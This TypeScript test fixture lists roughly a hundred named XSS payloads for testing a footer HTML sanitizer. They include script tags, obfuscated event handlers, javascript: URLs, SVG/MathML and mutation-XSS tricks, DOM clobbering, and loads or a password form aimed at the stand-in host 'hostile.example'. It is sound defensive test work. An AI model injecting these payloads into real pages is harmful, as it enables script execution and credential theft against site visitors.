export interface HostileFragment {
  name: string;
  html: string;
  does?: 'runs' | 'loads';
}

export const hostileOrigin = 'https://hostile.example';
const outside = hostileOrigin;

/** Footer HTML that attempts XSS, requests or layout changes. */
export const hostileFragments: readonly HostileFragment[] = [
  // Scripts
  { name: 'script', html: '<script>hit()</script>', does: 'runs' },
  { name: 'script in capitals', html: '<ScRiPt>hit()</sCrIpT>', does: 'runs' },
  { name: 'script from outside', html: `<script src="${outside}/a.js"></script>`, does: 'loads' },
  { name: 'script with a slash', html: '<script/x>hit()</script>', does: 'runs' },
  { name: 'script never closed', html: '<p>text<script>hit()' },
  { name: 'script within script', html: '<scr<script>ipt>hit()</scr</script>ipt>' },
  { name: 'module', html: '<script type="module">hit()</script>', does: 'runs' },
  {
    name: 'import map',
    html: `<script type="importmap">{"imports":{"x":"${outside}/x"}}</script>`,
  },
  { name: 'script in a paragraph', html: '<p><b><script>hit()</script></b></p>', does: 'runs' },

  // Event handlers
  { name: 'image with onerror', html: '<img src=x onerror=hit()>', does: 'runs' },
  { name: 'image without quotes or spaces', html: '<img/src="x"/onerror=hit()>', does: 'runs' },
  { name: 'image never closed', html: '<img src=x onerror="hit()" ', does: 'runs' },
  { name: 'handler in capitals', html: '<IMG SRC=x OnErRoR=hit()>', does: 'runs' },
  {
    name: 'handler with entities',
    html: '<img src=x onerror="&#104;it&lpar;&rpar;">',
    does: 'runs',
  },
  { name: 'handler after a line break', html: '<img src=x\nonerror\n=\nhit()>', does: 'runs' },
  { name: 'handler after a form feed', html: '<img src=x\u000Conerror=hit()>', does: 'runs' },
  { name: 'body with onload', html: '<body onload=hit()>', does: 'runs' },
  {
    name: 'focus by itself',
    html: '<a href="#" autofocus tabindex=0 onfocus=hit()>x</a>',
    does: 'runs',
  },
  {
    name: 'details that open',
    html: '<details open ontoggle=hit()><summary>x</summary></details>',
    does: 'runs',
  },
  { name: 'video source', html: '<video><source onerror=hit() src=x></video>', does: 'runs' },
  { name: 'audio', html: '<audio src=x onerror=hit()></audio>', does: 'runs' },
  { name: 'marquee', html: '<marquee onstart=hit()>x</marquee>' },
  { name: 'click on allowed text', html: '<p onclick="hit()">text</p>' },
  { name: 'mouse over an allowed link', html: '<a href="#" onmouseover="hit()">x</a>' },
  {
    name: 'animation end',
    html: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="hit()">x</b>',
    does: 'runs',
  },
  {
    name: 'popover toggle',
    html: '<button popovertarget=x>x</button><p id=x popover onbeforetoggle=hit()>y</p>',
  },
  { name: 'attribute within a closing tag', html: '</p onclick=hit()><p>x</p>' },
  { name: 'handler behind a null', html: '<img src=x on\u0000error=hit()>' },

  // URLs with active schemes
  { name: 'javascript:', html: '<a href="javascript:hit()">x</a>' },
  { name: 'javascript: in capitals', html: '<a href="JaVaScRiPt:hit()">x</a>' },
  { name: 'javascript: with a tab', html: '<a href="java\tscript:hit()">x</a>' },
  {
    name: 'javascript: with a line break as an entity',
    html: '<a href="java&#10;script:hit()">x</a>',
  },
  {
    name: 'javascript: with named entities',
    html: '<a href="java&Tab;script&colon;hit&lpar;&rpar;">x</a>',
  },
  { name: 'javascript: behind a control character', html: '<a href="&#1;javascript:hit()">x</a>' },
  {
    name: 'javascript: in hexadecimal entities',
    html: '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;hit()">x</a>',
  },
  { name: 'javascript: without semicolons', html: '<a href="&#0000106avascript:hit()">x</a>' },
  {
    name: 'javascript: with a comment for an address',
    html: '<a href="javascript://example.com/%0Ahit()">x</a>',
  },
  { name: 'vbscript:', html: '<a href="vbscript:hit()">x</a>' },
  { name: 'data: document', html: '<a href="data:text/html,<script>parent.hit()</script>">x</a>' },
  { name: 'blob:', html: '<a href="blob:https://example.com/1">x</a>' },
  { name: 'an address without a scheme', html: `<a href="//hostile.example/">x</a>` },
  { name: 'an address with backslashes', html: '<a href="/\\hostile.example/">x</a>' },
  { name: 'two addresses', html: '<a href="#" href="javascript:hit()">x</a>' },
  { name: 'ping', html: `<a href="#" ping="${outside}/ping">x</a>` },
  { name: 'area', html: '<map name=m><area href="javascript:hit()" shape=default></map>' },

  // SVG and MathML
  { name: 'SVG with onload', html: '<svg onload=hit()></svg>', does: 'runs' },
  { name: 'SVG script', html: '<svg><script>hit()</script></svg>', does: 'runs' },
  {
    name: 'SVG script with entities',
    html: '<svg><script>&#104;it()</script></svg>',
    does: 'runs',
  },
  {
    name: 'SVG animation of an address',
    html: '<svg><a><animate attributeName=href values=javascript:hit() /><text y=20>x</text></a></svg>',
  },
  {
    name: 'SVG animation event',
    html: '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
    does: 'runs',
  },
  {
    name: 'SVG use from outside',
    html: `<svg><image href="${outside}/a.png" /></svg>`,
    does: 'loads',
  },
  {
    name: 'SVG foreign object',
    html: '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>',
    does: 'runs',
  },
  { name: 'MathML address', html: '<math href="javascript:hit()">x</math>' },
  {
    name: 'MathML xlink',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:hit()">x</maction></math>',
  },

  // Style
  {
    name: 'style that loads',
    html: `<style>body{background:url(${outside}/a.png)}</style>`,
    does: 'loads',
  },
  { name: 'style that imports', html: `<style>@import "${outside}/a.css";</style>`, does: 'loads' },
  {
    name: 'style attribute that loads',
    html: `<p style="background:url(${outside}/b.png)">x</p>`,
    does: 'loads',
  },
  {
    name: 'style attribute that covers the page',
    html: '<a href="https://example.com" style="position:fixed;inset:0;opacity:0">x</a>',
  },
  { name: 'style expression', html: '<p style="width:expression(hit())">x</p>' },
  {
    name: 'style binding',
    html: `<p style="-moz-binding:url(${outside}/x.xml#x);behavior:url(${outside}/x.htc)">x</p>`,
  },
  { name: 'style sheet', html: `<link rel=stylesheet href="${outside}/a.css">`, does: 'loads' },
  {
    name: 'style closed early',
    html: '<style><!--</style><img src=x onerror=hit()>--></style>',
    does: 'runs',
  },

  // Forms, frames and document-level elements
  {
    name: 'form that takes a password',
    html: `<form action="${outside}/login"><input name=password type=password><button>Log in</button></form>`,
  },
  {
    name: 'button with a place to send',
    html: `<button form=x formaction="javascript:hit()">x</button>`,
  },
  { name: 'input that is an image', html: '<input type=image src=x onerror=hit()>', does: 'runs' },
  { name: 'select', html: '<select autofocus onfocus=hit()><option>x</select>', does: 'runs' },
  { name: 'isindex', html: '<isindex action="javascript:hit()" type=submit>' },
  { name: 'base', html: `<base href="${outside}/">` },
  { name: 'meta refresh', html: `<meta http-equiv=refresh content="600;url=${outside}/">` },
  {
    name: 'meta policy',
    html: `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  },
  { name: 'iframe', html: `<iframe src="${outside}/"></iframe>`, does: 'loads' },
  {
    name: 'iframe with a document',
    html: '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    does: 'runs',
  },
  {
    name: 'iframe with a program',
    html: '<iframe src="javascript:parent.hit()"></iframe>',
    does: 'runs',
  },
  {
    name: 'object',
    html: `<object data="${outside}/a.html" type="text/html"></object>`,
    does: 'loads',
  },
  { name: 'embed', html: `<embed src="${outside}/a.html" type="text/html">`, does: 'loads' },
  { name: 'preload', html: `<link rel=preload as=image href="${outside}/a.png">`, does: 'loads' },
  { name: 'image from outside', html: `<img src="${outside}/a.png" alt="">`, does: 'loads' },
  { name: 'image by source set', html: `<img srcset="${outside}/a.png 1x" alt="">`, does: 'loads' },
  {
    name: 'picture',
    html: `<picture><source srcset="${outside}/a.png"><img alt=""></picture>`,
    does: 'loads',
  },
  { name: 'video poster', html: `<video poster="${outside}/a.png"></video>`, does: 'loads' },
  {
    name: 'old table background',
    html: `<table background="${outside}/a.png"><tr><td>x</table>`,
    does: 'loads',
  },
  {
    name: 'portal and fenced frame',
    html: `<portal src="${outside}/"></portal><fencedframe src="${outside}/"></fencedframe>`,
  },

  // DOM clobbering
  {
    name: 'id that hides a property',
    html: '<a id=hit></a><a id=location href="javascript:hit()">x</a>',
  },
  {
    name: 'name that hides a property',
    html: '<form name=documentElement><input name=parentNode></form>',
  },
  {
    name: 'nested names',
    html: '<form id=attributes><input name=removeChild><input name=nodeName></form>',
  },
  {
    name: 'image that is called',
    html: '<img name=currentScript alt=""><img name=getElementById alt="">',
  },

  // Mutation XSS
  {
    name: 'noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
    does: 'runs',
  },
  { name: 'template', html: '<template><img src=x onerror=hit()></template>' },
  {
    name: 'declarative shadow root',
    html: '<p><template shadowrootmode=open><img src=x onerror=hit()></template></p>',
    does: 'runs',
  },
  {
    name: 'title',
    html: '<svg><title><p title="</title><img src=x onerror=hit()>"></title></svg>',
  },
  {
    name: 'textarea',
    html: '<textarea><p title="</textarea><img src=x onerror=hit()>"></textarea>',
    does: 'runs',
  },
  { name: 'xmp', html: '<xmp><p title="</xmp><img src=x onerror=hit()>">', does: 'runs' },
  {
    name: 'noembed',
    html: '<noembed><p title="</noembed><img src=x onerror=hit()>"></noembed>',
    does: 'runs',
  },
  { name: 'plaintext', html: '<p>x<plaintext><img src=x onerror=hit()>' },
  {
    name: 'MathML and style',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  },
  {
    name: 'MathML within forms',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  },
  {
    name: 'SVG and style',
    html: '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
    does: 'runs',
  },
  {
    name: 'MathML annotation',
    html: '<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit()></style></annotation-xml></math>',
  },
  { name: 'foreign CDATA', html: '<svg><![CDATA[><img src=x onerror=hit()>]]></svg>' },
  { name: 'CDATA in HTML', html: '<![CDATA[<img src=x onerror=hit()>]]>' },
  { name: 'comment ended at once', html: '<!--><img src=x onerror=hit()>-->', does: 'runs' },
  {
    name: 'comment with an exclamation mark',
    html: '<!-- --!><img src=x onerror=hit()> -->',
    does: 'runs',
  },
  { name: 'conditional comment', html: '<!--[if gte IE 4]><script>hit()</script><![endif]-->' },
  {
    name: 'processing instruction',
    html: '<?xml version="1.0"><img src=x onerror=hit()>?>',
    does: 'runs',
  },
  {
    name: 'nested forms',
    html: '<form><p></form><form><p><input name=x><img src=x onerror=hit()></form></form>',
    does: 'runs',
  },
  { name: 'link within a link', html: '<a href="#"><a href="javascript:hit()"><b></a></b></a>' },
  { name: 'attribute that ends a tag', html: '<p title="><img src=x onerror=hit()>">x</p>' },
  { name: 'attribute with a grave accent', html: '<p title="`><img src=x onerror=hit()>`">x</p>' },
  {
    name: 'encoded twice',
    html: '&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;&lt;img src=x onerror=hit()&gt;',
  },
  {
    name: 'way out of the footer',
    html: '</div></div></footer><main><h1>x</h1><img src=x onerror=hit()></main>',
    does: 'runs',
  },
  {
    name: 'way out of a list',
    html: '<ul><li></ul></li></div><script>hit()</script>',
    does: 'runs',
  },
  {
    name: 'a thousand open tags',
    html: `${'<b><p>'.repeat(500)}<img src=x onerror=hit()>`,
    does: 'runs',
  },
];
